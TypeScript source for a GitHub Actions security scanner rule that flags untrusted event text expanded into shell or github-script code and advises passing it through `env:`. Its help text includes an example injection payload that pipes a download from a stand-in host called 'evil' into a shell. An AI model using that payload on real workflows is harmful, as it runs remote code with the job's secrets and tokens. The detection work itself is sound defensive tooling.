import { shellCapabilities } from '../analysis/capabilities';
import { inputOf } from '../workflow/model';
import type { StepInstance } from '../analysis/instances';
import { reachOf } from '../analysis/reach';
import { severityFor } from '../analysis/severity';
import type { Taint, TaintEngine } from '../analysis/taint';
import { locateInScalar, type YScalar } from '../workflow/yaml';
import { docsUrl, type Check } from './context';
import { throughRelays } from './agentReach';
import { capabilityList, jobAndStep, reachText, surer } from './common';
import type { Finding } from './types';

/** Code sinks: `run:` scripts and github-script's `script`. */
export function codeSinks(step: StepInstance): { node: YScalar; what: string }[] {
  const out: { node: YScalar; what: string }[] = [];
  if (step.step.run) out.push({ node: step.step.run, what: 'the run script' });
  if (/^actions\/github-script@/i.test(step.step.uses?.text ?? '')) {
    const script = inputOf(step.step.with, 'script');
    if (script?.value.kind === 'scalar') out.push({ node: script.value, what: 'the github-script script' });
  }
  return out;
}

export function sinkTaints(step: StepInstance, node: YScalar, engine: TaintEngine): Taint[] {
  return engine.templates(node.text, (o, l) => locateInScalar(step.file, node, o, l), step.file, { job: step.job, step });
}


export const templateInjection: Check = {
  meta: {
    id: 'template-injection',
    title: 'Outsider-controlled text is expanded into a shell script',
    severity: 'critical',
    docs: docsUrl('template-injection'),
    help:
      '`${{ }}` is expanded before the shell runs, so text like an issue title becomes code: `a"; curl evil | sh; echo "`. ' +
      'The script runs with every secret and token of the job. Pass the value through `env:` and use `"$VAR"` in the script.',
  },
  run(ctx) {
    const findings: Finding[] = [];
    for (const step of ctx.steps) {
      for (const sink of codeSinks(step)) {
        for (const taint of sinkTaints(step, sink.node, ctx.engine)) {
          if (taint.origin.kind === 'ai-output') continue;
          // Text a model's answer repeated arrives only when that agent ran: its gates count too.
          const reach = throughRelays(reachOf(taint.origin, step), taint, ctx);
          const caps = shellCapabilities(step);
          const severity = severityFor(reach.level, caps);
          if (!severity) continue;
          const sink = taint.hops[taint.hops.length - 1];
          findings.push({
            rule: 'template-injection',
            severity,
            confidence: taint.hops.some((h) => h.note.startsWith('assumed')) ? 'low' : surer('high', reach),
            file: sink.file,
            line: sink.line,
            column: sink.column,
            ...jobAndStep(step),
            message: `${taint.origin.what} is expanded into ${sinkLabel(step)}: ${reachText(reach)}.`,
            path: [...step.job.via, ...taint.hops],
            capabilities: capabilityList(caps),
            holder: 'step',
            sink: sinkLabel(step),
            fix: 'Move the value into `env:` (e.g. `env: { TITLE: ${{ github.event.issue.title }} }`) and use "$TITLE" in the script, quoted.',
          });
        }
      }
    }
    return findings;
  },
};

function sinkLabel(step: StepInstance): string {
  return step.step.run ? `the run script of step '${step.step.label}'` : `the github-script of step '${step.step.label}'`;
}
